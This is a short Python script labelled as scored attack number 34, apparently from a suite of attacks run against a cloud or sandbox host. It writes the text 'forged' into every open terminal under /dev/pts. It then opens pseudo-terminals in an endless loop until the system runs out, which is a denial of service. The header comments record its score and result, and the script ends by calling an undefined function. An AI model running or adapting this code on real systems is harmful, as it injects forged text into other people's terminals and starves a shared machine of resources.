# attack: 34
# does: writes into each terminal that is open, and takes as many as there are
# run: finished
# earns: 10
# prints: 0 terminals
# with: work_ec2
import os

taken = []
try:
    for name in os.listdir("/dev/pts"):
        if name.isdigit():
            print("wrote to", name, os.write(os.open(f"/dev/pts/{name}", os.O_RDWR | os.O_NOCTTY), b"forged\n"))
    while True:
        taken.append(os.openpty())
except OSError as error:
    print(len(taken), "terminals:", type(error).__name__)
work()
